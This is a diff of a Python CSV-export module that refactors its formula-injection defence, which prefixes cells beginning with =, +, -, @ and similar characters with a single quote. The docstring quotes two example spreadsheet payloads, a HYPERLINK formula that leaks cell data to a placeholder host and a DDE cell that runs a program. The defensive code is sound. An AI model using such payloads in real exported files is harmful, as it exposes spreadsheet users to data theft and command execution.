@@ -3,9 +3,9 @@
 A spreadsheet that opens a CSV evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in
 some programs, a tab or carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1)`` leaks
 data, ``+cmd|' /C calc'!A0`` runs a program (DDE). Every CSV the project writes (the i2 export of the
-service, the per-pair benchmark tables) goes through :func:`csv_text` / :func:`write_csv`, which
-neutralise such cells as OWASP recommends: a single quote is put in front, so the spreadsheet shows the
-text as typed and evaluates nothing.
+service, the per-pair and per-bullet benchmark tables) goes through :func:`write_rows_csv` (a file) or
+:func:`csv_text` (the text, for a download), which neutralise such cells as OWASP recommends: a single
+quote is put in front, so the spreadsheet shows the text as typed and evaluates nothing.
 
 Numbers stay numbers: an ``int`` / ``float`` (numpy numbers included) is written as is, so ``-0.5``
 stays the number -0.5. A *string* is left alone only when it is one plain decimal number literal
@@ -19,15 +19,15 @@ import csv
 import io
 import itertools
 import numbers
-import os
 import re
 from collections.abc import Iterable, Iterator, Mapping, Sequence
 from pathlib import Path
 from typing import Any
 
+from ballistic.errors import InputError
 from ballistic.io.atomic import atomic_write_bytes
 
-__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "csv_text", "write_csv", "write_rows_csv"]
+__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "csv_text", "write_rows_csv"]
 
 #: first characters that make a spreadsheet read a cell as a formula (OWASP), plus their full-width forms
 FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
@@ -62,48 +62,52 @@ def neutralise_cell(value: Any) -> Any:
     return text
 
 
-def _rows(rows: Iterable[Mapping[str, Any] | Sequence[Any]], fieldnames: Sequence[str] | None,
-          extrasaction: str) -> tuple[list[str] | None, Iterator[list[Any]]]:
+Rows = Iterable[Mapping[str, Any] | Sequence[Any]]
+
+
+def _rows(rows: Rows, columns: Sequence[str] | None) -> tuple[list[str] | None, Iterator[list[Any]]]:
     """(columns or None, cell lists) of dict or sequence rows."""
     it = iter(rows)
     first = next(it, None)
-    cols = list(fieldnames) if fieldnames is not None else None
+    cols = list(columns) if columns is not None else None
     if first is None:
         return cols, iter(())
     if not isinstance(first, Mapping):
         return cols, (list(r) for r in itertools.chain([first], it))
-    cols = cols if cols is not None else list(first.keys())
+    select = cols is not None
+    cols = cols if select else list(first.keys())
     known = set(cols)
 
     def cells() -> Iterator[list[Any]]:
-        for r in itertools.chain([first], it):
-            if extrasaction == "raise" and not known.issuperset(r):
-                raise ValueError(f"row has fields not in fieldnames: {sorted(set(r) - known)}")
+        for i, r in enumerate(itertools.chain([first], it)):
+            if not select and not known.issuperset(r):
+                raise InputError(f"row {i} has fields the first row has not: {sorted(set(r) - known)}; pass "
+                                 "columns=[...] to choose the columns")
             yield [r.get(c, "") for c in cols]
 
     return cols, cells()
 
 
-def csv_text(rows: Iterable[Mapping[str, Any] | Sequence[Any]], fieldnames: Sequence[str] | None = None, *,
-             extrasaction: str = "raise", lineterminator: str = "\r\n") -> str:
-    """CSV text of ``rows`` (dicts or sequences), header first when there are field names; every cell,
+def csv_text(rows: Rows, *, columns: Sequence[str] | None = None, lineterminator: str = "\r\n") -> str:
+    """CSV text of ``rows`` (dicts or sequences), header first when there are columns; every cell,
     header included, passes through :func:`neutralise_cell`.
 
     Parameters
     ----------
     rows : iterable of mappings or sequences
-        Dict rows are written in ``fieldnames`` order (default: the first row's keys); a missing key is
-        an empty cell.
-    fieldnames : sequence of str, optional
-        Columns; a header line is written when given or when the rows are dicts.
-    extrasaction : {"raise", "ignore"}
-        What to do with dict keys that are not columns (as :class:`csv.DictWriter`).
-    lineterminator : str
+        Dict rows are written in ``columns`` order; a missing key is an empty cell.
+    columns : sequence of str, optional, keyword-only
+        The columns, in order; keys of a dict row that are not listed are left out. Default: the keys of
+        the first dict row (a later row with other keys raises :class:`~ballistic.errors.InputError`);
+        sequence rows without ``columns`` are written without a header.
+    lineterminator : str, keyword-only
         Line ending (RFC 4180: CRLF).
+
+    Returns
+    -------
+    str
     """
-    if extrasaction not in ("raise", "ignore"):
-        raise ValueError(f"extrasaction must be 'raise' or 'ignore', got {extrasaction!r}")
-    cols, body = _rows(rows, fieldnames, extrasaction)
+    cols, body = _rows(rows, columns)
     buf = io.StringIO()
     w = csv.writer(buf, lineterminator=lineterminator)
     if cols is not None:
@@ -113,27 +117,23 @@ def csv_text(rows: Iterable[Mapping[str, Any] | Sequence[Any]], fieldnames: Sequ
     return buf.getvalue()
 
 
-def write_csv(path: str | os.PathLike, rows: Iterable[Mapping[str, Any] | Sequence[Any]],
-              fieldnames: Sequence[str] | None = None, *, extrasaction: str = "raise") -> Path:
-    """Write :func:`csv_text` of ``rows`` to ``path`` (UTF-8, atomically); returns the path. The parent
-    folder is created when missing."""
-    path = Path(path)
-    path.parent.mkdir(parents=True, exist_ok=True)
-    return atomic_write_bytes(path, csv_text(rows, fieldnames, extrasaction=extrasaction).encode("utf-8"))
-
-
-def write_rows_csv(rows: list[dict], path: str | Path, *, columns: Sequence[str] | None = None) -> Path:
-    """Write rows (dicts) as CSV with a header through :func:`write_csv` (formula-safe); returns the path.
+def write_rows_csv(rows: Rows, path: str | Path, *, columns: Sequence[str] | None = None) -> Path:
+    """Write :func:`csv_text` of ``rows`` to ``path`` (UTF-8, atomically, formula-safe); returns the path.
 
     Parameters
     ----------
-    rows : list of dict
-        One dict per row; without ``columns`` all rows have the keys of the first.
+    rows : iterable of mappings or sequences
+        One dict per row (or one sequence of cells per row, with ``columns`` for a header).
     path : str or os.PathLike
-        Destination file (overwritten).
+        Destination file (replaced atomically); its folder is created when missing.
     columns : sequence of str, optional, keyword-only
         The columns, in order; keys of a row that are not listed are left out.
         Default: the keys of the first row.
+
+    Returns
+    -------
+    pathlib.Path
     """
-    cols = list(rows[0].keys()) if columns is None else list(columns)
-    return write_csv(path, rows, cols, extrasaction="raise" if columns is None else "ignore")
+    path = Path(path)
+    path.parent.mkdir(parents=True, exist_ok=True)
+    return atomic_write_bytes(path, csv_text(rows, columns=columns).encode("utf-8"))
